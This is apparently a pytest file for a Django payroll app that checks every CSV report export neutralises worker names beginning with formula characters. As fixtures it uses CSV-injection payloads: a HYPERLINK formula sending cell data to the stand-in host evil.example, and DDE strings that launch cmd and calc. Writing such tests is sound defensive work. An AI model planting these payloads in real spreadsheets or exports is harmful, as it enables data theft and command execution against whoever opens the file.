"""Names that a spreadsheet would run as formulas come out of every CSV export as plain text."""

from __future__ import annotations

import csv
import io

import pytest

from tests.reports.data import build_report_data
from workers.models import Worker

NOVEMBER = {"from": "2026-11-01", "to": "2026-11-30"}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture(autouse=True)
def _own_var_dir(settings, tmp_path):
    settings.VAR_DIR = tmp_path


@pytest.fixture
def evil_names(db):
    data = build_report_data()
    names = {"Ana Silva": EVIL, "Ben Otto": "+cmd|' /C calc'!A0", "Cleo Dubois": "@SUM(1+1)*cmd|'/C calc'!A0"}
    for worker in Worker.objects.all():
        if worker.full_name in names:
            worker.full_name = names[worker.full_name]
            worker.save(update_fields=["full_name"])
    return data, names


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.content
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def exports(client) -> dict[str, list[dict[str, str]]]:
    started = client.post("/api/v1/reports/exports/", {"kind": "earnings", **NOVEMBER}, format="json").json()
    return {
        "payouts": rows_of(client.get("/api/v1/reports/payouts/", {**NOVEMBER, "format": "csv"})),
        "earnings": rows_of(client.get("/api/v1/reports/earnings/", NOVEMBER)),
        "annual": rows_of(client.get("/api/v1/reports/annual-earnings/", {"year": "2026"})),
        "earnings task": rows_of(client.get(started["download_url"])),
    }


def test_every_export_writes_formula_like_names_as_text(finance_client, evil_names):
    _, names = evil_names

    for export, rows in exports(finance_client).items():
        shown = {row["worker_name"] for row in rows}
        assert shown, export
        assert shown <= {"'" + name for name in names.values()}, export
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values()
                       if not cell.lstrip("+-").replace(".", "", 1).isdigit()), export


def test_negative_amounts_stay_numbers(finance_client, evil_names):
    rows = exports(finance_client)["annual"]

    # Ben had 200 of 500 reversed: the figures are unchanged; only text is neutralised.
    ben = next(row for row in rows if row["worker_name"].startswith("'+cmd"))
    assert (ben["gross_paid"], ben["reversed"], ben["net_paid"]) == ("500", "200", "300")
    from reports.formatting import csv_cell

    assert [csv_cell(v) for v in ["-12.50", "+3", "-", "-1+1", "\tx", "\rx", "a=b", 7, None]] == [
        "-12.50", "+3", "'-", "'-1+1", "'\tx", "'\rx", "a=b", 7, None]
